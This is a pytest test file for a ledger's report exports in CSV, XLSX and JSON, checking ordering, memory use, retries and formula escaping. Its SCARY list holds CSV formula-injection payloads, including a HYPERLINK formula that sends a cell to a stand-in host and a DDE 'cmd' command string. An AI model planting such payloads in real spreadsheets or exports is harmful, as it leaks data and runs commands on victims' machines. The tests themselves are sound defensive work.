"""Reports of a ledger on SQLite and PostgreSQL: every row, in order, in bounded memory, with new attempts."""

import csv
import io
import json
import tracemalloc
from contextlib import closing

import pytest

from oint.csv_escaping import escape_formulas
from oint.refusals.input import InputRow, RowError
from oint.refusals.ledger import open_ledger, planning
from oint.refusals.ledger.approval import approve
from oint.refusals.ledger.retries import retry
from oint.refusals.report import read_report_rows, write_csv, write_json, write_xlsx
from oint.refusals.states import State


@pytest.fixture(autouse=True)
def english(monkeypatch):
    monkeypatch.setenv("OINT_LANG", "en")


@pytest.fixture
def ledger(ledger_address):
    with closing(open_ledger(ledger_address)) as connection:
        yield connection


def plan_batch(ledger, rows, name="a"):
    batch = planning.create_batch(
        ledger, ledger.get_or_create_tenant("https://cdek", "x"), name, name, "csv", even_if_billed=False
    )
    planning.insert_rows(ledger, batch, rows)
    batch = planning.complete_batch(ledger, batch, len(rows))
    approve(ledger, batch, by="test")
    return batch


def make_rows(count):
    return [InputRow(number, f"uuid-{number % (count - 100)}", None, None, None) for number in range(2, count + 2)]


def set_state(ledger, batch, state, *numbers):
    with ledger.database.write_transaction() as cursor:
        for number in numbers:
            cursor.fetch_all("UPDATE refusal SET state = ? WHERE id = ?", state.value, batch.span.first + number)


def test_report_streams_rows_in_order_in_bounded_memory(ledger):
    batch = plan_batch(ledger, make_rows(20_000))
    tracemalloc.start()
    try:
        numbers = [row.row for row in read_report_rows(ledger, batch)]
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert numbers == list(range(2, 20_002))
    assert peak < 5_000_000


def test_invalid_row_has_message_of_its_code(ledger):
    batch = plan_batch(ledger, [InputRow(2, None, None, None, RowError("bad_row_uuid", "uuid: xx-9"))])
    (row,) = read_report_rows(ledger, batch)
    assert (row.verdict, row.code, row.message) == ("advised", "bad_row_uuid", "This is not a UUID (uuid: xx-9)")
    assert row.decided_at == row.planned_at


def test_retried_row_is_reported_once_in_its_place(ledger):
    batch = plan_batch(ledger, [InputRow(number, f"u{number}", None, None, None) for number in range(2, 8)])
    set_state(ledger, batch, State.REJECTED, 2, 5, 7)
    assert retry(ledger, batch, [State.REJECTED]).planned == 3
    assert [(row.row, row.verdict) for row in read_report_rows(ledger, batch)] == [
        (row, "planned") for row in range(2, 8)
    ]


def test_second_retry_takes_only_newest_attempts(ledger):
    batch = plan_batch(ledger, [InputRow(number, f"u{number}", None, None, None) for number in range(2, 8)])
    set_state(ledger, batch, State.UNKNOWN, 2, 7)
    assert [retry(ledger, batch, [State.UNKNOWN]).planned for _ in range(3)] == [2, 2, 2]
    assert [row.verdict for row in read_report_rows(ledger, batch)].count("unknown") == 2


def test_shop_number_never_becomes_formula(ledger, tmp_path):
    calamine = pytest.importorskip("python_calamine", reason="workbooks are an extra")
    names = ["=1+1", "+7", "-2", "@SUM(A1)"]
    batch = plan_batch(ledger, [InputRow(number, None, None, name, None) for number, name in enumerate(names, 2)])
    sink = io.BytesIO()
    write_csv(read_report_rows(ledger, batch), sink)
    cells = [row.split(";")[3] for row in sink.getvalue().decode("utf-8-sig").splitlines()[1:]]
    assert cells == [f"'{name}" for name in names]
    assert write_xlsx(read_report_rows(ledger, batch), tmp_path / "a.xlsx") == 4
    sheet = calamine.CalamineWorkbook.from_path(str(tmp_path / "a.xlsx")).get_sheet_by_index(0).to_python()
    assert [row[3] for row in sheet[1:]] == names


SCARY = [
    'IM-1,=HYPERLINK("http://x/?"&A1)',
    "IM-2;=1+1",
    'IM-3, "=1+1',
    "IM-4\n=1+1",
    "＝1+1",
    "＋7",
    "－2",
    "＠SUM(A1)",
    " =1+1",
    '"=1+1',
    "IM-5,-2+3+cmd|' /C calc'!A0",
    "=a,=b;@c",
]


@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_no_locale_finds_formula_in_csv(ledger, delimiter):
    batch = plan_batch(ledger, [InputRow(number, None, None, name, None) for number, name in enumerate(SCARY, 2)])
    sink = io.BytesIO()
    write_csv(read_report_rows(ledger, batch), sink)
    text = sink.getvalue().decode("utf-8-sig")
    cells = [cell.strip(' "') for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))]
    assert not [line for line in text.splitlines() if line.startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize("text", ["IM-1", "Омск, -5, 7", "a=b", "+", "тел. 7,+7 999", "[-1,-2]", "a;-2.5"])
def test_harmless_text_gets_no_apostrophe_inside(text):
    assert escape_formulas(text).removeprefix("'") == text


def test_rows_beyond_sheet_limit_go_to_further_sheet(ledger, tmp_path):
    calamine = pytest.importorskip("python_calamine", reason="workbooks are an extra")
    batch = plan_batch(ledger, [InputRow(number, f"u{number}", None, None, None) for number in range(2, 9)])
    write_xlsx(read_report_rows(ledger, batch), tmp_path / "a.xlsx", max_rows=4)
    book = calamine.CalamineWorkbook.from_path(str(tmp_path / "a.xlsx"))
    rows_by_sheet = {
        name: [row[0] for row in book.get_sheet_by_name(name).to_python()[1:]] for name in book.sheet_names
    }
    assert [rows_by_sheet[name] for name in rows_by_sheet if name.startswith("All rows")] == [[2, 3, 4], [5, 6, 7], [8]]


def test_report_of_empty_batch_is_empty_list(ledger):
    batch = plan_batch(ledger, [])
    sink = io.BytesIO()
    assert write_json(read_report_rows(ledger, batch), sink) == 0
    assert json.loads(sink.getvalue()) == []
